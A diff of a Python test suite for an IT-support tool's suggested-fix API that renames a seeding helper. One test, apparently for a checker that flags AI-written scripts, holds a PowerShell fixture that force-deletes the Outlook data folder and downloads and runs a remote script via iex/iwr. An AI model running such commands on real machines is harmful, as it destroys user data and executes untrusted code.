@@ -21,7 +21,7 @@ from shared.models import SuggestedFix
 from tests.support.stub_anthropic import StubAnthropic
 
 
-def _seed_fix(session_id: str, account_id: uuid.UUID, title: str, **values: Any) -> str:
+def _store_fix(session_id: str, account_id: uuid.UUID, title: str, **values: Any) -> str:
     with db.transaction() as session:
         fix = persist_fix(
             session,
@@ -59,8 +59,8 @@ def test_active_and_list(pilot_client: Any, engineer: Any, helpers: SimpleNamesp
     assert none.get_json()["code"] == 404
     assert pilot_client.get(base, headers=engineer.headers).get_json() == []
 
-    first = _seed_fix(sid, engineer.account_id, "Flush DNS", steps=["ipconfig /flushdns"])
-    second = _seed_fix(sid, engineer.account_id, "Renew DHCP lease", confidence=70)
+    first = _store_fix(sid, engineer.account_id, "Flush DNS", steps=["ipconfig /flushdns"])
+    second = _store_fix(sid, engineer.account_id, "Renew DHCP lease", confidence=70)
 
     active = pilot_client.get(f"{base}/active", headers=engineer.headers)
     assert active.status_code == 200
@@ -80,7 +80,7 @@ def test_decisions_are_recorded_once_and_bump(
     pilot_client: Any, engineer: Any, helpers: SimpleNamespace
 ) -> None:
     sid = helpers.create_session(pilot_client, engineer)["id"]
-    fix_id = _seed_fix(sid, engineer.account_id, "Re-register the spooler")
+    fix_id = _store_fix(sid, engineer.account_id, "Re-register the spooler")
 
     response = _decide(pilot_client, engineer, sid, fix_id, "one_off")
     assert response.status_code == 200
@@ -104,7 +104,7 @@ def test_a_decided_fix_can_still_be_dismissed_and_keeps_its_history(
     pilot_client: Any, engineer: Any, helpers: SimpleNamespace, first: str
 ) -> None:
     sid = helpers.create_session(pilot_client, engineer)["id"]
-    fix_id = _seed_fix(sid, engineer.account_id, "Re-register the spooler")
+    fix_id = _store_fix(sid, engineer.account_id, "Re-register the spooler")
     assert _decide(pilot_client, engineer, sid, fix_id, first).status_code == 200
 
     dismissed = _decide(pilot_client, engineer, sid, fix_id, "dismissed")
@@ -128,7 +128,7 @@ def test_template_decisions_keep_the_fix_active(
     pilot_client: Any, engineer: Any, helpers: SimpleNamespace, decision: str
 ) -> None:
     sid = helpers.create_session(pilot_client, engineer)["id"]
-    fix_id = _seed_fix(sid, engineer.account_id, "Script the fix")
+    fix_id = _store_fix(sid, engineer.account_id, "Script the fix")
     response = _decide(pilot_client, engineer, sid, fix_id, decision)
     assert response.status_code == 200
     assert response.get_json()["decision"] == decision
@@ -142,8 +142,8 @@ def test_dismissing_supersedes_and_superseded_fixes_cannot_be_decided(
     pilot_client: Any, engineer: Any, helpers: SimpleNamespace
 ) -> None:
     sid = helpers.create_session(pilot_client, engineer)["id"]
-    old = _seed_fix(sid, engineer.account_id, "Old idea")
-    current = _seed_fix(sid, engineer.account_id, "Better idea")
+    old = _store_fix(sid, engineer.account_id, "Old idea")
+    current = _store_fix(sid, engineer.account_id, "Better idea")
 
     stale = _decide(pilot_client, engineer, sid, old, "one_off")
     assert stale.status_code == 409
@@ -167,9 +167,9 @@ def test_decision_input_and_404s(
 ) -> None:
     sid = helpers.create_session(pilot_client, engineer)["id"]
     other = helpers.create_session(pilot_client, engineer, title="other")["id"]
-    fix_id = _seed_fix(sid, engineer.account_id, "Mine")
+    fix_id = _store_fix(sid, engineer.account_id, "Mine")
     foreign_sid = helpers.create_session(pilot_client, outsider)["id"]
-    foreign_fix = _seed_fix(foreign_sid, outsider.account_id, "Theirs")
+    foreign_fix = _store_fix(foreign_sid, outsider.account_id, "Theirs")
 
     for bad in ("approve", "", None, 3):
         response = _decide(pilot_client, engineer, sid, fix_id, bad)
@@ -201,7 +201,7 @@ def test_viewers_and_resolved_sessions_cannot_decide(
     engineer = make_user("engineer")
     viewer = make_user("viewer", account_id=engineer.account_id)
     sid = helpers.create_session(pilot_client, engineer)["id"]
-    fix_id = _seed_fix(sid, engineer.account_id, "Fix")
+    fix_id = _store_fix(sid, engineer.account_id, "Fix")
     base = f"{helpers.base}/{sid}/suggested-fixes"
 
     assert pilot_client.get(f"{base}/active", headers=viewer.headers).status_code == 200
@@ -221,7 +221,7 @@ def test_the_database_allows_one_active_fix_per_session(
     pilot_client: Any, engineer: Any, helpers: SimpleNamespace
 ) -> None:
     sid = uuid.UUID(helpers.create_session(pilot_client, engineer)["id"])
-    _seed_fix(str(sid), engineer.account_id, "First")
+    _store_fix(str(sid), engineer.account_id, "First")
     with pytest.raises(IntegrityError, match="uq_suggested_fixes_one_active"):
         with db.transaction() as session:
             session.add(SuggestedFix(session_id=sid, account_id=engineer.account_id, title="Rogue"))
@@ -343,7 +343,7 @@ def test_an_ai_script_is_checked_and_marked_as_ai_written(
         'Remove-Item -Path "$env:LOCALAPPDATA\\Microsoft\\Outlook" -Recurse -Force\n'
         "iex (iwr https://example.com/fix.ps1)\n"
     )
-    _seed_fix(sid, engineer.account_id, "Reset Outlook", script=script)
+    _store_fix(sid, engineer.account_id, "Reset Outlook", script=script)
     card = pilot_client.get(
         f"{helpers.base}/{sid}/suggested-fixes/active", headers=engineer.headers
     ).get_json()
@@ -356,7 +356,7 @@ def test_an_ai_script_is_checked_and_marked_as_ai_written(
     listed = pilot_client.get(f"{helpers.base}/{sid}/suggested-fixes", headers=engineer.headers)
     assert listed.get_json()[0]["script_findings"] == card["script_findings"]
 
-    _seed_fix(sid, engineer.account_id, "Restart the client", steps=["Restart Outlook"])
+    _store_fix(sid, engineer.account_id, "Restart the client", steps=["Restart Outlook"])
     plain = pilot_client.get(
         f"{helpers.base}/{sid}/suggested-fixes/active", headers=engineer.headers
     ).get_json()
